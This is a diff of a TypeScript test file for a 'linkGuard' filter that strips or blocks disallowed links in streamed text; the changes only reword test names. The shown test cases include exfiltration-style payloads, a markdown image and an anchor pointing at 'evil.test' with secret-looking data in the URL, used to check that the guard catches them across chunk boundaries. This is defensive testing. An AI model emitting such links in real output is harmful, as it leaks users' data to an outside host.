@@ -124,7 +124,7 @@ describe('linkGuard', () => {
     }
   });
 
-  itEvery(rejected)('strips %s, whatever the chunks', async (text, value) => {
+  itEvery(rejected)('strips %s regardless of chunk boundaries', async (text, value) => {
     const options = { ...allowed, strategy: 'strip' as const };
     const whole = textLeft((await streamed(options, [text])).left);
     expect(whole).toContain('[link removed]');
@@ -136,7 +136,7 @@ describe('linkGuard', () => {
     }
   });
 
-  itEvery(rejected)('block releases no fragment of %s, whatever the chunks', async (text, value) => {
+  itEvery(rejected)('block releases no fragment of %s regardless of chunk boundaries', async (text, value) => {
     const before = text.slice(0, text.indexOf(value));
     for (const pieces of cutsOf(text)) {
       const { left, tripped } = await streamed(allowed, pieces);
@@ -252,7 +252,7 @@ describe.each(hosts)('linkGuard in %s', (host) => {
   });
 });
 
-describe('linkGuard, whatever the chunks', { timeout: 120_000 }, () => {
+describe('linkGuard with any chunk boundaries', { timeout: 120_000 }, () => {
   const cases = [
     { text: 'So ![x](https://evil.test/p?d=secretwords) there', value: 'evil.test/p?d=secretwords' },
     { text: 'So <a href="//evil.test/secret words">x</a>', value: 'evil.test/secret words' },
